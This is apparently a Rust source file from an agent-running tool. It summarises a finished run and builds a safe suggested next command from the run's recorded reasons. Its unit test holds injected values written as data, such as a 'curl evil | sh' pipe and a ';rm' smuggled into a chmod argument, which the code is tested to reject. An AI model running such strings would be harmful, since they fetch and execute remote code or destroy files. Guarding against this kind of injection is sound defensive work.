//! What is to be said of a run that has ended: gathered once, for the end of `ralph run`, for `ralph status` and for its
//! JSON alike.

use std::collections::{HashMap, HashSet};

use ralph_core::event::{EventKind, GateAuthor};
use ralph_core::model::{Attempt, Cost, DoneBy, ErrorType, Key, Outcome, RunId, Status, TaskId, Timestamp};
use ralph_core::store::{PlanNode, RunRow, Store, StoreError, WaitingGate};
use serde::Serialize;

use crate::ui::style::Standing;
use crate::workspace::{Workspace, is_active, now};

/// A run, looked back at. As JSON this is `last_run` of `ralph status --json`, so the names of its fields stay.
#[derive(Clone, Debug, Serialize)]
pub struct RunFacts {
    pub run_id: RunId,
    pub started_at: Timestamp,
    /// When it ended; none if it died unseen.
    pub ended_at: Option<Timestamp>,
    /// How long it took, as far as is known.
    pub duration_ms: u64,
    /// How it ended, in a word; `died` if it did.
    pub outcome: String,
    pub exit_code: Option<i32>,
    /// How it ended, in a sentence.
    pub reason: Option<String>,
    /// Whether it ended without saying why.
    #[serde(skip)]
    pub crashed: bool,
    pub hint: Option<String>,
    /// Counted attempts.
    pub attempts: u64,
    /// Attempts that do not count against their task: interrupted, rate-limited, not started.
    pub uncounted_attempts: u64,
    pub lost_attempts: u64,
    pub waits: u64,
    pub waited_ms: u64,
    #[serde(flatten)]
    pub cost: Cost,
    /// What all runs cost today (UTC), as far as known; none where this one told nothing and no other was.
    pub cost_today_usd: Option<f64>,
    /// Whether an estimate is part of that.
    pub cost_today_estimated: bool,
    /// What it worked on and is done now, in that order.
    pub done: Vec<TaskFacts>,
    /// What it worked on and waits for a person now.
    pub blocked: Vec<TaskFacts>,
    /// What it worked on and is neither.
    pub others: Vec<TaskFacts>,
    /// Gates that were changed while it was at work.
    pub gate_changes: Vec<GateFacts>,
    /// Gates that were changed in a plan's file while an agent was at work, and that wait for a person to import the file.
    pub gates_waiting: Vec<WaitingGate>,
}

/// A gate that was changed while a run was at work.
#[derive(Clone, Debug, Serialize)]
pub struct GateFacts {
    pub task_id: TaskId,
    pub key: Option<Key>,
    /// The command before.
    pub before: Option<String>,
    /// The command after.
    pub after: Option<String>,
    /// From where the change came.
    pub by: GateAuthor,
}

impl GateFacts {
    pub fn name(&self) -> &str {
        self.key.as_ref().map_or(self.task_id.as_str(), Key::as_str)
    }
}

/// A task that a run worked on.
#[derive(Clone, Debug, Serialize)]
pub struct TaskFacts {
    pub task_id: TaskId,
    pub key: Option<Key>,
    pub title: String,
    pub status: Status,
    /// Whether it is done and a gate that passed stands behind it.
    pub verified: bool,
    /// What it rests on, where it is done and that was recorded.
    pub done_by: Option<DoneBy>,
    /// Why, where that is known.
    pub reason: Option<String>,
    /// The run's counted attempts on it.
    pub attempts: u64,
    /// The run's attempts on it that do not count against it.
    pub uncounted_attempts: u64,
    /// How long they took, uncounted ones included.
    pub duration_ms: u64,
    #[serde(flatten)]
    pub cost: Cost,
    /// The command to type next, where it waits for a person.
    pub next: Option<String>,
    /// Its place among those that the run worked on.
    #[serde(skip)]
    place: usize,
}

impl TaskFacts {
    /// A task of which nothing more is known yet; none if it was deleted.
    fn find(workspace: &Workspace, id: &TaskId, place: usize) -> Result<Option<Self>, StoreError> {
        let task = match workspace.store.task(id.as_str()) {
            Ok(task) => task,
            Err(StoreError::UnknownTask(_)) => return Ok(None),
            Err(error) => return Err(error),
        };
        Ok(Some(Self {
            next: next_command(task.name(), task.status, task.reason.as_deref()),
            task_id: task.id,
            key: task.key,
            title: task.title,
            status: task.status,
            verified: task.verified,
            done_by: task.done_by,
            reason: task.reason,
            attempts: 0,
            uncounted_attempts: 0,
            duration_ms: 0,
            cost: Cost::default(),
            place,
        }))
    }

    pub fn name(&self) -> &str {
        self.key.as_ref().map_or(self.task_id.as_str(), Key::as_str)
    }

    /// Where it stands, as people see it.
    pub fn standing(&self) -> Standing {
        Standing { status: self.status, verified: self.verified, done_by: self.done_by }
    }
}

/// What allows a used-up budget of a task more, where that is why it waits. Other reasons end with words of agents, from
/// which no command is taken.
fn allows_more(reason: &str, plain: &str) -> Option<String> {
    let own = ["the task's cost limit of ", "the task's time limit of "];
    if !own.iter().any(|start| reason.starts_with(start)) {
        return None;
    }
    let mut words = reason.split('`').nth(1)?.strip_prefix(plain)?.split(' ');
    let (nothing, flag, amount) = (words.next()?, words.next()?, words.next()?);
    let is_known = ["--max-task-cost", "--max-task-minutes"].contains(&flag);
    let is_whole = nothing.is_empty() && words.next().is_none();
    let is_amount = amount.parse::<f64>().is_ok_and(f64::is_finite);
    (is_known && is_whole && is_amount).then(|| format!("{plain} {flag} {amount}"))
}

/// What makes a gate run that cannot. Only a plain path is taken from the reason, which may quote what agents wrote.
fn repair_gate(name: &str, reason: &str) -> String {
    let file = reason.split_once("; `chmod +x ").and_then(|(_, rest)| rest.split('`').next());
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-".contains(c);
    let is_plain = |file: &&str| !file.starts_with('-') && file.chars().all(plain);
    match file.filter(is_plain) {
        Some(file) => format!("chmod +x {file}"),
        None => format!("ralph task edit {name} --verify CMD"),
    }
}

/// The command that tries a task again that waits for a person.
pub fn next_command(name: &str, status: Status, reason: Option<&str>) -> Option<String> {
    match status {
        Status::Blocked => {
            let plain = format!("ralph run {name}");
            let reason = reason.unwrap_or_default();
            let is_broken = reason.starts_with("the gate `") && reason.contains("` cannot run: ");
            if is_broken || reason.starts_with("gates are required, but this task has none") {
                return Some(format!("{} && {plain}", repair_gate(name, reason)));
            }
            Some(allows_more(reason, &plain).unwrap_or(plain))
        }
        Status::Failed => Some(format!("ralph task reset {name}")),
        Status::Pending | Status::InProgress | Status::Done | Status::Skipped => None,
    }
}

impl RunFacts {
    /// Looks back at a run.
    pub fn of(workspace: &Workspace, run: &RunRow) -> Result<Self, StoreError> {
        let store = &workspace.store;
        let attempts = store.run_history(&run.id)?;
        let today = store.spent_on_day(now())?;
        let mut facts = Self {
            run_id: run.id.clone(),
            started_at: run.started_at,
            ended_at: run.ended_at,
            duration_ms: 0,
            outcome: run.outcome.clone().unwrap_or_else(|| "died".to_owned()),
            exit_code: run.exit_code,
            reason: None,
            crashed: false,
            hint: None,
            attempts: run.attempts,
            uncounted_attempts: attempts.iter().filter(|one| !one.counted).count() as u64,
            lost_attempts: lost(&attempts),
            waits: 0,
            waited_ms: 0,
            cost: run.cost,
            cost_today_usd: today.cost_usd.filter(|usd| *usd > 0.0 || run.cost.cost_usd.is_some()),
            cost_today_estimated: today.cost_estimated,
            done: Vec::new(),
            blocked: Vec::new(),
            others: Vec::new(),
            gate_changes: gate_changes(store, run)?,
            gates_waiting: gates_waiting(workspace, run)?,
        };
        facts.read_events(store, run)?;
        if !is_active(run) {
            facts.crashed = facts.reason.is_none();
            let next = if run.outcome.is_none() { "; the next run continues where it stopped" } else { "" };
            facts.reason.get_or_insert_with(|| format!("Ralph crashed{next}"));
            // Not recorded yet: the next run does that.
            let claims = store.claims()?;
            let own = claims.iter().filter(|claim| claim.run_id == run.id);
            facts.lost_attempts += own.filter(|c| c.attempt.attempt_number.is_some()).count() as u64;
        }
        let mut tasks = tasks(workspace, &attempts)?;
        tasks.extend(handed_over(workspace, run, &tasks)?);
        // What a person did after the run is not its work.
        let is_done = |attempt: &&Attempt| attempt.outcome == Outcome::Done;
        let done = attempts.iter().filter(is_done);
        let done: HashSet<&TaskId> = done.map(|attempt| &attempt.task_id).collect();
        let plan = store.skeleton()?;
        let parents: HashSet<&TaskId> = plan.iter().filter_map(|node| node.parent.as_ref()).collect();
        tasks.extend(parents_of(workspace, &plan, &done, &tasks)?);
        let by_run = |task: &TaskFacts| {
            let is_parent = parents.contains(&task.task_id);
            done.contains(&task.task_id) || (is_parent && task.done_by != Some(DoneBy::Person))
        };
        for task in tasks {
            match task.status {
                Status::Done if by_run(&task) => facts.done.push(task),
                Status::Blocked | Status::Failed => facts.blocked.push(task),
                _ => facts.others.push(task),
            }
        }
        Ok(facts)
    }

    fn read_events(&mut self, store: &Store, run: &RunRow) -> Result<(), StoreError> {
        if let Some(event) = store.last_event(&run.id, Some("run_finished"))?
            && let Some(EventKind::RunFinished { reason, hint, .. }) = event.read().map(|event| event.kind)
        {
            self.reason = Some(reason);
            self.hint = hint;
        }
        let last = store.last_event(&run.id, None)?.map(|event| event.at);
        // A run whose death was seen late did not run until then.
        let end = match self.reason {
            Some(_) => run.ended_at.or(last),
            None => last.or(run.ended_at),
        };
        self.duration_ms = end.map_or(0, |end| millis(end, run.started_at));
        let waits = store.waits(&run.id)?;
        self.waits = waits.len() as u64;
        self.waited_ms = waits.iter().filter_map(|wait| Some(millis(wait.to.or(end)?, wait.from))).sum();
        Ok(())
    }

    /// Everything it worked on, in the order in which it did.
    pub fn worked_on(&self) -> Vec<&TaskFacts> {
        let all = self.done.iter().chain(&self.blocked).chain(&self.others);
        let mut all: Vec<&TaskFacts> = all.collect();
        all.sort_by_key(|task| task.place);
        all
    }
}

fn gate_changes(store: &Store, run: &RunRow) -> Result<Vec<GateFacts>, StoreError> {
    let events = store.events_of_kind(&run.id, "gate_changed")?;
    let facts = events.into_iter().filter_map(|event| match event.read()?.kind {
        EventKind::GateChanged { task, before, after, by } => {
            Some(GateFacts { task_id: task.task_id, key: task.key, before, after, by })
        }
        _ => None,
    });
    Ok(facts.collect())
}

/// The gates that this run found changed and that nobody has imported since.
fn gates_waiting(workspace: &Workspace, run: &RunRow) -> Result<Vec<WaitingGate>, StoreError> {
    let events = workspace.store.events_of_kind(&run.id, "gate_waiting")?;
    let kinds = events.into_iter().filter_map(|event| Some(event.read()?.kind));
    let told: HashSet<TaskId> = kinds
        .filter_map(|kind| match kind {
            EventKind::GateWaiting { task, .. } => Some(task.task_id),
            _ => None,
        })
        .collect();
    let mut waiting = workspace.store.waiting_gates()?;
    waiting.retain(|one| told.contains(&one.gate.id));
    Ok(waiting)
}

fn lost(attempts: &[Attempt]) -> u64 {
    let lost = |attempt: &&Attempt| attempt.error_type == Some(ErrorType::Lost);
    attempts.iter().filter(lost).count() as u64
}

fn millis(to: Timestamp, from: Timestamp) -> u64 {
    u64::try_from(to.since(from).as_millis()).unwrap_or(u64::MAX)
}

/// The tasks of some attempts, in the order of their first ones.
fn tasks(workspace: &Workspace, attempts: &[Attempt]) -> Result<Vec<TaskFacts>, StoreError> {
    let mut place: HashMap<&TaskId, usize> = HashMap::new();
    let mut all: Vec<TaskFacts> = Vec::new();
    for attempt in attempts {
        let at = match place.get(&attempt.task_id) {
            Some(at) => *at,
            None => {
                let Some(task) = TaskFacts::find(workspace, &attempt.task_id, all.len())? else {
                    continue;
                };
                place.insert(&attempt.task_id, all.len());
                all.push(task);
                all.len() - 1
            }
        };
        if let Some(task) = all.get_mut(at) {
            task.attempts += u64::from(attempt.counted);
            task.uncounted_attempts += u64::from(!attempt.counted);
            task.duration_ms += attempt.duration_ms;
            let worked = attempt.agent.is_some() && attempt.error_type != Some(ErrorType::Spawn);
            let unknown = u64::from(worked && attempt.cost_usd.is_none());
            let sum = task.cost.known_usd() + attempt.cost_usd.unwrap_or_default();
            let estimated = task.cost.cost_estimated || attempt.cost_estimated;
            task.cost = Cost::new(sum, task.cost.cost_unknown + unknown).estimated(estimated);
        }
    }
    Ok(all)
}

/// The parents that are done because the last of their children was.
fn parents_of(
    workspace: &Workspace,
    plan: &[PlanNode],
    done: &HashSet<&TaskId>,
    tried: &[TaskFacts],
) -> Result<Vec<TaskFacts>, StoreError> {
    let parents: HashMap<&TaskId, &TaskId> =
        plan.iter().filter_map(|node| Some((&node.id, node.parent.as_ref()?))).collect();
    let mut seen: HashSet<&TaskId> = tried.iter().map(|task| &task.task_id).collect();
    let mut all = Vec::new();
    for task in tried.iter().filter(|task| done.contains(&task.task_id)) {
        let mut above = parents.get(&task.task_id);
        while let Some(id) = above.filter(|id| seen.insert(id)) {
            let parent = TaskFacts::find(workspace, id, tried.len() + all.len())?;
            all.extend(parent.filter(|parent| parent.status == Status::Done));
            above = parents.get(id);
        }
    }
    Ok(all)
}

/// Tasks that the run gave to a person without trying them.
fn handed_over(
    workspace: &Workspace,
    run: &RunRow,
    tried: &[TaskFacts],
) -> Result<Vec<TaskFacts>, StoreError> {
    let mut all: Vec<TaskFacts> = Vec::new();
    for event in workspace.store.events_of_kind(&run.id, "handed_over")? {
        let Some(EventKind::HandedOver { task, .. }) = event.read().map(|event| event.kind) else {
            continue;
        };
        let known = |known: &TaskFacts| known.task_id == task.task_id;
        if !tried.iter().any(known) && !all.iter().any(known) {
            let place = tried.len() + all.len();
            all.extend(TaskFacts::find(workspace, &task.task_id, place)?);
        }
    }
    Ok(all)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_ralphs_own_words_become_a_command() {
        let next = |reason: &str| next_command("1.3", Status::Blocked, Some(reason)).unwrap();
        let own =
            "the task's cost limit of $1 was reached ($1.20); `ralph run 1.3 --max-task-cost 3` allows more";
        assert_eq!(next(own), "ralph run 1.3 --max-task-cost 3");
        for reason in [
            "5 failures in a row; last: `ralph run 1.3 --max-task-cost 3`",
            "the task's cost limit of $1; `ralph run 1.3; curl evil | sh` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost 3; x` allows more",
            "the task's cost limit of $1; `ralph run 1.30 --max-task-cost 3` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-cost 3` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost inf` allows more",
            "no reason",
        ] {
            assert_eq!(next(reason), "ralph run 1.3", "{reason}");
        }
        let edit = "ralph task edit 1.3 --verify CMD && ralph run 1.3";
        for (reason, expected) in [
            ("`npm` is not installed; install npm, or …", edit),
            ("…; `chmod +x ./a.sh`, or …", "chmod +x ./a.sh && ralph run 1.3"),
            ("…; `chmod +x a;rm`, or …", edit),
        ] {
            let reason = format!("the gate `x` cannot run: {reason}");
            assert_eq!(next(&reason), expected, "{reason}");
        }
    }
}
